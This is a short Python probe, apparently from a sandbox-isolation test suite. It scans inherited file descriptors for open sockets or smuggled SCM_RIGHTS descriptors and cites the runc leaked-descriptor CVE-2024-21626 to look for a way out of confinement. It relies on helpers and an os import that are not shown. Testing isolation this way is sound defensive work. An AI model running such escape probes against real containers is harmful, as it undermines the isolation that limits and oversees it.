"""Ask every inherited channel for descriptors in flight, and use any socket found among our own.

origin: SCM_RIGHTS smuggling; leaked descriptors: CVE-2024-21626 (runc)
why: what is already open needs no permission to be opened
control: succeeds
harm: stage
"""

import socket
import struct


def attack(target):
    address = struct.pack("=H", 2) + struct.pack("!H", target["tcp"]) + bytes([127, 0, 0, 1]) + bytes(8)
    tried = 0
    for number in range(3, 256):
        try:
            os.fstat(number)
        except OSError:
            continue
        tried += 1
        result, error = syscall(target, "connect", number, address, len(address))
        if result == 0:
            return escaped(f"descriptor {number} is an internet socket")
        try:
            channel = socket.socket(fileno=os.dup(number))
            _, ancillary, _, _ = channel.recvmsg(1, 1024, socket.MSG_DONTWAIT | socket.MSG_PEEK)
        except OSError:
            continue
        if ancillary:
            return escaped(f"descriptor {number} delivered other descriptors")
    return nothing(f"none of {tried} descriptors leads anywhere")
